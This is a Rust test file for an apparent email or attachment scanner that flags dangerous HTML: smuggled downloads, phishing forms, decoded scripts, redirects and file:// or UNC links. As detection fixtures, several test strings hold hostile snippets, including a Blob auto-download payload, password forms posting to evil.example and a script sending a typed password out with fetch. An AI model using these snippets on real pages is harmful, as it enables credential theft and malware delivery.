//! Pages as browsers read them, and what an attached one does.

use super::*;

fn checks(html: &str) -> Vec<Check> {
    read(html.as_bytes(), true).signals.into_iter().map(|(check, _)| check).collect()
}

#[test]
fn links_with_what_they_show() {
    let page = read(
        b"<p>Hi <a href=' https://a.example/x '>see <b>www.b.example</b></a><a \
        href=\"mailto:x@y\">mail</a></p><area href=https://c.example>",
        false,
    );
    let seen: Vec<(&str, &str)> = page.links.iter().map(|link| (link.target.as_str(), link.shown.as_str())).collect();
    assert_eq!(seen, [("https://a.example/x", "see www.b.example"), ("mailto:x@y", "mail"), ("https://c.example", "")]);
    assert!(page.signals.is_empty());
}

#[test]
fn what_an_attached_page_does() {
    use Check as C;
    assert_eq!(
        checks("<h1>Report</h1><p>The figures of March, as a page, with enough text to be read by somebody.</p>"),
        []
    );
    assert_eq!(
        checks(
            "<script>var b=new Blob([Uint8Array.from(atob('TVqQ'),c=>c.charCodeAt(0))]);\
             a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"
        ),
        [C::HtmlSmuggling]
    );
    assert_eq!(
        checks("<form action='https://evil.example/p'><input type=email><input type=PASSWORD></form>"),
        [C::HtmlCredentials]
    );
    assert_eq!(checks("<form action='/login'><input type=password></form>"), [], "a saved page of the own site");
    assert_eq!(
        checks("<input type=password><script>fetch('https://evil.example',{method:'POST'})</script>"),
        [C::HtmlCredentials]
    );
    assert_eq!(
        checks(
            "<script>document.write( unescape('%3Chtml%3E'))</script><p>enough text here that this is more than a \
                page that moves on, really.</p>"
        ),
        [C::HtmlDecoded]
    );
    let loader = "var h=(('https:'==document.location.protocol)?'https://ssl.':'http://www.');\
        document.write(unescape(\"%3Cscript src='\"+h+\"counter.example/ga.js'\
        %3E%3C/script%3E\"));";
    let text = "<p>A saved page with enough text in it that somebody would read it, and no more than that.</p>";
    assert_eq!(checks(&format!("{text}<script>{loader}</script>")), [], "the counter of a saved page");
    let more = loader.replace("%3C/script%3E", "alert(1)%3C/script%3E");
    assert_eq!(checks(&format!("{text}<script>{more}</script>")), [C::HtmlDecoded], "a script that is written");
    let hidden = "document.write(unescape('%3Ca%20href%3D%22mailto%3Aa%40b.example%22%3Ea%40b.example%3C%2Fa%3E'));";
    assert_eq!(checks(&format!("{text}<script>{hidden}</script>")), [], "an address of a saved page");
    for (from, to) in [
        ("%22%3Ea", "%22%20onclick%3D%22x()%22%3Ea"),
        ("mailto%3A", "https%3A"),
        ("%3C%2Fa%3E", "%3Cform%3E%3C%2Fa%3E"),
    ] {
        let other = hidden.replacen(from, to, 1);
        assert_eq!(checks(&format!("{text}<script>{other}</script>")), [C::HtmlDecoded], "{other}");
    }
    let wide: Vec<u8> = "\u{feff}<script>document.write(unescape('%3Chtml%3E'))</script>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let read = read(&wide, true).signals.into_iter().map(|(check, _)| check).collect::<Vec<_>>();
    assert!(read.contains(&C::HtmlDecoded), "a page in UTF-16: {read:?}");
    assert_eq!(checks("<meta http-equiv=refresh content='0; url=https://evil.example/'>"), [C::HtmlRedirect]);
    assert_eq!(checks("<body onload=\"location.href='https://evil.example'\">"), [C::HtmlRedirect]);
    assert_eq!(
        checks(
            "<script src=https://cdn.example/chart.js></script><script>new Chart(document.body)</script><p>A chart \
                of the sales of the last year, with text around it.</p>"
        ),
        []
    );
}

fn targets(html: &str) -> Vec<String> {
    read(html.as_bytes(), false).links.into_iter().map(|link| link.target).collect()
}

#[test]
fn everything_that_leads_somewhere_is_a_link() {
    for html in [
        "<form action='https://a.example/'>",
        "<form><button formaction='https://a.example/'>",
        "<svg><a xlink:href='https://a.example/'><text>x</text></a></svg>",
        "<svg><a><set attributeName=href to='https://a.example/'/></a></svg>",
        "<math href='https://a.example/'><mi>x</mi></math>",
        "<iframe src='https://a.example/'></iframe>",
        "<object data='https://a.example/'></object>",
        "<embed src='https://a.example/'>",
        "<map><area href='https://a.example/'></map>",
        "<v:roundrect href='https://a.example/'></v:roundrect>",
        "<!--[if mso]><a href='https://a.example/'>x</a><![endif]-->",
        "<meta http-equiv=Refresh content='3;https://a.example/'>",
        "<meta http-equiv=refresh content='0; URL = \"https://a.example/\"'>",
        "<meta http-equiv=refresh content=\"0,url='https://a.example/'\">",
    ] {
        assert_eq!(targets(html), ["https://a.example/"], "{html}");
    }
    for html in [
        "<img src='https://a.example/a.png' srcset='https://a.example/b.png 2x'>",
        "<td background='https://a.example/a.png'>",
        "<div style='background:url(https://a.example/a.png)'>",
        "<style>@import url('https://a.example/a.css')</style>",
        "<link rel=stylesheet href='https://a.example/a.css'>",
        "<svg><image xlink:href='https://a.example/a.png'/></svg>",
        "<meta http-equiv=refresh content='300'>",
        "<base href='https://a.example/' target=_blank>",
        "<!-- <a href='https://a.example/'>x</a> -->",
    ] {
        assert_eq!(targets(html), [""; 0], "{html}");
    }
    for html in [
        "<img src='file://203.0.113.9/a.png'>",
        "<img src='\\\\evil.example\\a\\b.png'>",
        "<td background='file:///\\\\203.0.113.9\\a'>",
        "<div style=\"background:url('file://203.0.113.9/a')\">",
        "<style>p{background:url(\\\\\\\\203.0.113.9\\\\a)}</style>",
        "<link rel=stylesheet href='file://203.0.113.9/a.css'>",
        "<base href='file://203.0.113.9/'>",
    ] {
        assert_eq!(targets(html).len(), 1, "{html}");
    }
    assert_eq!(targets("<img src='\\\\server\\a.png'><img src='file:///C:/a.png'>").len(), 0);
}

#[test]
fn the_first_base_completes_what_is_a_piece() {
    let page = read(
        b"<a href=one>1</a><base target=_blank><base href='https://evil.example/login/'><base \
        href='https://www.example.com/'><a href='https:two'>2</a><a href='https://c.example/'>3</a><a \
        href='#top'>4</a><a href='mailto:a@b.example'>5</a><a href='//d.example/'>6</a>",
        false,
    );
    let seen: Vec<(&str, bool)> = page.links.iter().map(|link| (link.target.as_str(), link.base.is_empty())).collect();
    assert_eq!(
        seen,
        [
            ("https://evil.example/login/one", false),
            ("https://evil.example/login/two", false),
            ("https://c.example/", true),
            ("#top", true),
            ("mailto:a@b.example", true),
            ("//d.example/", true),
            ("https://evil.example/login/", false),
        ]
    );
}

#[test]
fn files_in_links_of_an_attached_page() {
    use Check as C;
    let zip = "data:application/octet-stream;base64,UEsDBBQAAAAIANkze108EJyhOQAAADkAAAABAAAA";
    for html in [
        format!("<a href='{zip}' download='invoice.zip'>x</a>"),
        format!("<iframe src='{zip}'></iframe>"),
        format!("<object data='{zip}'></object>"),
        format!("<meta http-equiv=refresh content='0;url={zip}'><p>{}</p>", "text ".repeat(20)),
        format!("<svg><a xlink:href='{zip}'>x</a></svg>"),
        format!("<form action='{zip}'>"),
        "<a href='data:,WScript.Echo(1)' download='a.js'>x</a>".to_owned(),
        format!("<script>a.href='{zip}';a.download='x';a.click()</script>"),
        format!("<script>var p='{}';a.href='data:application/zip;base64,'+p;a.click()</script>", &zip[37..]),
        format!("<script src=\"data:,a.href='{zip}';a.click()\"></script>"),
    ] {
        assert_eq!(checks(&html), [C::HtmlSmuggling], "{html}");
    }
    for html in [
        "<a href='data:text/csv,a%2Cb' download='table.csv'>table</a>",
        "<a href='data:application/json;base64,e30=' download=data.json>data</a>",
        "<a href='data:image/png;base64,iVBORw0KGgo=' download=plot.png>plot</a>",
        "<iframe src='data:text/html,<p>hello</p>'></iframe>",
        "<img src='data:image/png;base64,iVBORw0KGgo='>",
        "<script>p='UEsDBBQAAAAIANkze108EJyhOQAAADkAAAABAAAA';i.src='data:image/png;base64,'+q;a.click()</script>",
    ] {
        assert_eq!(checks(html), [], "{html}");
    }
    let page = read(b"<a href='data:;base64,UEsDBA==' download=a.zip>x</a><iframe srcdoc='<p>inner</p>'>", true);
    let expected = [("a.zip".to_owned(), b"PK\x03\x04".to_vec()), ("frame.html".to_owned(), b"<p>inner</p>".to_vec())];
    assert_eq!(page.members, expected);
    assert!(read(b"<a href='data:;base64,UEsDBA=='>x</a>", false).members.is_empty(), "a mail's own page");
}

#[test]
fn passwords_are_asked_for_in_many_ways() {
    use Check as C;
    for html in [
        "<form action='mailto:evil@evil.example'><input type=password></form>",
        "<form action='/x'><input type=text placeholder='Passwort'><button formaction='https://evil.example/'>",
        "<form id=f action='//evil.example/'></form><input type=password form=f>",
        "<form action='https:/\\evil.example/'><input name=pwd></form>",
        "<base href='https://evil.example/'><form action='p'><input type=password></form>",
        "<script>f.innerHTML='<input type=\"password\">';fetch('https://api.telegram.org/bot1:x/send')</script>",
        "<form id=f><input type=password></form><script>f.action = 'https://evil.example/'</script>",
        "<form action='https://evil.example/p'><input type=password></form><form action='/search'><input></form>",
    ] {
        assert_eq!(checks(html), [C::HtmlCredentials], "{html}");
    }
    let library = format!("r=new XMLHttpRequest;{}u='https://library.example/licence'", "x();".repeat(6000));
    assert_eq!(checks(&format!("<form action=login><input type=password></form><script>{library}</script>")), []);
    let widgets = format!("class P{{r(){{this.el.type='password'}}}};{}", "x();".repeat(6000));
    let loads = "fetch('https://data.example/sales.json')";
    let text = "<p>The sales of the month as a chart, with a field of every kind in the library that draws it.</p>";
    assert_eq!(checks(&format!("{text}<script>{widgets}</script><script>{loads}</script>")), []);
    let steals = format!("{}e.type='password';fetch('https://evil.example/'+e.value)", "x();".repeat(6000));
    assert_eq!(checks(&format!("{text}<script>{steals}</script>")), [C::HtmlCredentials]);
    for html in [
        "<form action='login'><input type=password></form><form action='https://www.example.com/s'><input></form>",
        "<form action='https://www.example.com/search'><input name=q placeholder='Search'></form>",
        "<h1>Router manual</h1><p>Type the password that is on the label, then press Save: it is kept.</p>",
        "<form action='https://www.example.com/'><input name=passenger></form>",
        "<form action='login'><input type=password></form><script>fetch('/login',{method:'POST'})</script>",
        "<form action='login'><input type=password></form><script>new XMLHttpRequest;x='http://www.w3.org/2000/svg'\
            </script>",
    ] {
        assert_eq!(checks(html), [], "{html}");
    }
}

#[test]
fn pictures_from_elsewhere() {
    let page = read(
        b"<img src=https://a.example/1.gif width=1 height=1><img src=cid:x><img src='//b.example/l.png' width=200>",
        false,
    );
    assert_eq!((page.remote_pictures, page.tracking_pixels), (2, 1));
}
